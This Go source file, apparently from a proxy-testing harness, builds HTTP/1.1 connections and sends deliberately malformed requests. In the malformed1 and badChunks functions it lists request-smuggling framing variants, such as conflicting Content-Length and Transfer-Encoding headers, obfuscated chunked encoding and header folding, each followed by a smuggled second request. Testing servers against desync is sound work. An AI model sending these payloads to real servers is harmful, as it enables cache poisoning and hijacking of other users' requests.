package poison

import (
	"bufio"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"
)

// patience bounds one round; nothing that works comes near it.
const patience = 30 * time.Second

// http1 is a connection of HTTP/1.1.
type http1 struct {
	net.Conn
	r *bufio.Reader
}

func dialHTTP1(addr string, config *tls.Config) (connection, error) {
	dialer := &net.Dialer{Timeout: patience}
	c, err := dialer.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	if config != nil {
		config = config.Clone()
		config.NextProtos = []string{"http/1.1"}
		c = tls.Client(c, config)
	}
	return &http1{c, bufio.NewReader(c)}, nil
}

// most is how many requests may be on their way at once: what follows one with a
// body would be lost with it.
func (h *http1) most(first request) int {
	if first.method == "POST" {
		return 1
	}
	return 2
}

func (h *http1) round(requests []request) (answers []answer, keep bool) {
	if err := h.SetDeadline(time.Now().Add(patience)); err != nil {
		return []answer{{err: err}}, false
	}
	text := ""
	for _, r := range requests {
		text += r.head1()
	}
	// An answer that came early may have ended the connection.
	_, _ = io.WriteString(h, text)
	for _, r := range requests {
		if r.kind == abandoned {
			return answers, false
		}
		a, keep := h.answer(r)
		answers = append(answers, a)
		if !keep {
			return answers, false
		}
	}
	return answers, true
}

// answer reads the answer to a request, and says whether the connection goes on.
func (h *http1) answer(r request) (a answer, keep bool) {
	got, err := http.ReadResponse(h.r, &http.Request{Method: r.method})
	if err == nil && got.StatusCode == http.StatusContinue {
		// The backend reads the body, so that its head is there for certain.
		_, _ = io.WriteString(h, r.badChunks())
		got, err = http.ReadResponse(h.r, &http.Request{Method: r.method})
	}
	if err != nil {
		var timeout net.Error
		if errors.As(err, &timeout) && timeout.Timeout() {
			return answer{err: err, behind: "nothing for too long"}, false
		}
		return answer{err: fmt.Errorf("%w: %w", errLost, err)}, false
	}
	body, err := io.ReadAll(got.Body)
	a = answer{status: got.StatusCode, target: got.Header.Get("X-Target"), body: string(body), err: err}
	switch r.kind {
	case late:
		// Who has not seen the end of the request may not take this for its rest.
		_, _ = io.WriteString(h, r.smuggled)
		return a, false
	case malformed:
		rest, _ := io.ReadAll(h.r)
		a.behind = string(rest)
		return a, false
	}
	return a, err == nil && !got.Close
}

// head1 is the request by HTTP/1.1, as far as it is sent at once.
func (r request) head1() string {
	head := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: a.example\r\n", r.method, r.target)
	if r.kind == malformed {
		return head + r.malformed1()
	}
	if r.body == "" {
		return head + "\r\n"
	}
	framing, body := fmt.Sprintf("Content-Length: %d\r\n\r\n", len(r.body)), r.body
	if r.chunked {
		framing, body = "Transfer-Encoding: chunked\r\n\r\n", fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(r.body), r.body)
	}
	if r.kind == abandoned || r.kind == late {
		body = body[:len(body)/2]
	}
	return head + framing + body
}

// malformed1 is the rest of a malformed request.
func (r request) malformed1() string {
	const end = "0\r\n\r\n"
	variants := []string{
		"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" + end + r.smuggled,
		"Content-Length: 5\r\nContent-Length: 0\r\n\r\n" + end + r.smuggled,
		"Content-Length: +5\r\n\r\n" + end + r.smuggled,
		"Transfer-Encoding: xchunked\r\n\r\n" + end + r.smuggled,
		"Transfer-Encoding : chunked\r\n\r\n" + end + r.smuggled,
		"Content-Length: 5\r\nX: y\r\n Transfer-Encoding: chunked\r\n\r\n" + end + r.smuggled,
		"X: y\nTransfer-Encoding: chunked\r\n\r\n" + end + r.smuggled,
		"Transfer-Encoding: chunked\r\n\r\n" + r.badChunks(),
		"Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n",
	}
	return variants[r.variant%len(variants)]
}

// badChunks are more than the first one's size says.
func (r request) badChunks() string {
	return fmt.Sprintf("%x\r\n%s!\r\n0\r\n\r\n", len(r.body), r.body) + r.smuggled
}
